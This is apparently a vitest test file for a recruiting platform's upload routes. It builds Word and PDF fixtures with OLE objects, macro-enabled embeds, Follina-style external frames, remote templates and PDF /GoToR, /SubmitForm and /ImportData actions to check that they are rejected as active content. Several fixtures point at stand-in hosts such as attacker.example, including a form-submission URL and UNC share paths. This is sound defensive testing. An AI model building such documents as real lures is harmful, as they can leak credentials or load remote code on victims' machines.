/**
 * Word files that pull in remote or embedded objects, and PDFs whose actions open other files or send or fetch form
 * data, are refused as active content on the routes that pass a file on (a chat attachment, a project's job
 * description, a CV), and nothing is stored: OLE objects and embedded macro-enabled packages, relationships of any
 * `*.rels` part pointing outside the package for an OLE object, a template, a frame or a sub-document (Follina), a
 * remote template in settings.xml.rels; PDF /GoToR, /SubmitForm and /ImportData actions. A CV with external hyperlinks
 * and pictures, and a PDF with a web link, still pass.
 */
import { crc32, deflateRawSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestApp } from '../helpers/app';
import { pdfOf, SG_ENGINEER, zipOf } from '../helpers/cvs';
import { makeProject, type TestProject } from '../helpers/interviews';
import { bearer, talentWorld } from '../helpers/talent';

let t: TestApp;
let admin: string;
let company: string;
let project: TestProject;
let conversationId: number;

beforeAll(async () => {
  ({ t, admin, company } = await talentWorld());
  project = await makeProject(t.knex, { jobDescription: null });
  const first = await t.http
    .post(`/api/v1/projects/${project.id}/conversation/messages`)
    .set(bearer(company))
    .send({ body: 'Hello' });
  expect(first.status, JSON.stringify(first.body)).toBeLessThan(300);
  conversationId = first.body.data.conversationId;
}, 120_000);
afterAll(async () => {
  await t?.knex.destroy();
});

const part = (name: string, text: string | Buffer) => {
  const data = Buffer.isBuffer(text) ? text : Buffer.from(text, 'utf8');
  return { name, deflated: deflateRawSync(data), crc: crc32(data), size: data.length };
};

const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const RELS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const rels = (...items: string[]) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${RELS}">${items.join('')}</Relationships>`;
const rel = (id: string, type: string, target: string, external = true) =>
  `<Relationship Id="${id}" Type="${R}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** A Word CV with a body, a picture and an external hyperlink, plus `extra` parts (a same-named part replaces one). */
function docxOf(extra: { name: string; data: string | Buffer }[] = []): Buffer {
  const body = ['Jane Tan', 'Backend engineer', 'Skills', 'TypeScript, PostgreSQL']
    .map((p) => `<w:p><w:r><w:t>${p}</w:t></w:r></w:p>`)
    .join('');
  const parts = new Map<string, string | Buffer>([
    [
      '[Content_Types].xml',
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    ],
    ['_rels/.rels', rels(rel('rId1', 'officeDocument', 'word/document.xml', false))],
    [
      'word/document.xml',
      `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
    ],
    [
      'word/_rels/document.xml.rels',
      rels(
        rel('rId2', 'hyperlink', 'https://www.linkedin.com/in/jane-tan'),
        rel('rId3', 'image', 'media/image1.png', false),
      ),
    ],
    ['word/media/image1.png', PNG],
  ]);
  for (const e of extra) parts.set(e.name, e.data);
  return zipOf([...parts].map(([name, data]) => part(name, data)));
}

type PdfAction = 'GoToR' | 'SubmitForm' | 'ImportData' | 'URI';

/** A readable CV PDF with an open action of `kind`; `objectStreams` hides its objects compressed. */
async function pdfWith(kind: PdfAction, objectStreams: boolean): Promise<Buffer> {
  const doc = await PDFDocument.load(await pdfOf(SG_ENGINEER));
  const { context, catalog } = doc;
  const action =
    kind === 'GoToR'
      ? { S: 'GoToR', F: PDFString.of('\\\\attacker.example\\share\\cv.pdf'), D: [0, 'Fit'] }
      : kind === 'URI'
        ? { S: 'URI', URI: PDFString.of('https://www.linkedin.com/in/jane-tan') }
        : { S: kind, F: PDFString.of('https://attacker.example/collect') };
  catalog.set(PDFName.of('OpenAction'), context.obj(action));
  return Buffer.from(await doc.save({ useObjectStreams: objectStreams }));
}

/** The routes that pass a file on, posting `file` as `name`, with the file's field. */
const ROUTES: {
  route: string;
  field: string;
  post: (file: Buffer, name: string) => Promise<import('supertest').Response>;
}[] = [
  {
    route: 'a chat attachment',
    field: 'attachment',
    post: async (file, name) =>
      t.http
        .post(`/api/v1/conversations/${conversationId}/messages`)
        .set(bearer(company))
        .attach('attachment', file, name),
  },
  {
    route: "a project's job description",
    field: 'jd_file',
    post: async (file, name) =>
      t.http
        .post('/api/v1/projects/add-job-description')
        .set(bearer(company))
        .field('project_id', `Project:${project.id}`)
        .attach('jd_file', file, name),
  },
  {
    route: 'a CV',
    field: 'file',
    post: async (file, name) => t.http.post('/api/v1/candidates/cv-data').set(bearer(admin)).attach('file', file, name),
  },
];

const stored = async () => {
  const [cv, chat, jd] = await Promise.all([
    t.knex('cv_uploads').count('* as n').first(),
    t.knex('chat_messages').whereNotNull('attachment_key').count('* as n').first(),
    t.knex('projects').where('id', project.id).first('jd_file_name'),
  ]);
  return { cv: Number(cv?.n), chat: Number(chat?.n), jd: jd?.jd_file_name ?? null };
};

describe('A file that pulls in remote or embedded objects', () => {
  it('is refused as active content where a file is passed on, and not stored', async () => {
    const documentRels = (...items: string[]) => ({ name: 'word/_rels/document.xml.rels', data: rels(...items) });
    const hostile: [string, Buffer][] = [
      ['an OLE object', docxOf([{ name: 'word/embeddings/oleObject1.bin', data: Buffer.from('OLE bytes') }])],
      ['an embedded .docm', docxOf([{ name: 'word/embeddings/Document1.docm', data: Buffer.from('PK docm') }])],
      ['an embedded .xlsm', docxOf([{ name: 'word/embeddings/Book1.xlsm', data: Buffer.from('PK xlsm') }])],
      ['an external OLE object', docxOf([documentRels(rel('rId9', 'oleObject', 'http://attacker.example/x.doc'))])],
      ['a Follina frame', docxOf([documentRels(rel('rId9', 'frame', 'http://attacker.example/x.html!'))])],
      ['a remote sub-document', docxOf([documentRels(rel('rId9', 'subDocument', '\\\\attacker\\s\\x.docx'))])],
      [
        'a remote template in settings.xml.rels',
        docxOf([
          {
            name: 'word/_rels/settings.xml.rels',
            data: rels(rel('rId1', 'attachedTemplate', 'http://a.example/t.dotm')),
          },
        ]),
      ],
      [
        'an external object in another part, attributes reordered and escaped',
        docxOf([
          {
            name: 'word/_rels/header1.xml.rels',
            data: rels(
              `<Relationship TargetMode="&#69;xternal" Target="http://a.example/?a>b" Type="${R}/frame" Id="r1"/>`,
            ),
          },
        ]),
      ],
    ];
    for (const kind of ['GoToR', 'SubmitForm', 'ImportData'] as const) {
      hostile.push([`a /${kind} PDF`, await pdfWith(kind, false)]);
      hostile.push([`a /${kind} PDF in object streams`, await pdfWith(kind, true)]);
    }
    const before = await stored();
    for (const { route, field, post } of ROUTES)
      for (const [what, file] of hostile) {
        const name = file.subarray(0, 4).toString('latin1') === '%PDF' ? 'Role.pdf' : 'Role.docx';
        const res = await post(file, name);
        expect(res.status, `${route}, ${what}: ${JSON.stringify(res.body)}`).toBe(400);
        expect(res.body.error.fields, `${route}, ${what}`).toEqual({ [field]: 'upload.errors.activeContent' });
      }
    expect(await stored()).toEqual(before);
  }, 240_000);

  it('is told apart from a CV with external links and pictures, which every route takes', async () => {
    await t.knex('rate_limit_hits').delete();
    const plain: [string, Buffer][] = [
      ['Role.docx', docxOf()],
      ['Role.pdf', await pdfWith('URI', false)],
    ];
    for (const { route, post } of ROUTES)
      for (const [name, file] of plain) {
        const res = await post(file, name);
        expect(res.status, `${route}, ${name}: ${JSON.stringify(res.body)}`).toBeLessThan(300);
      }
  }, 240_000);
});
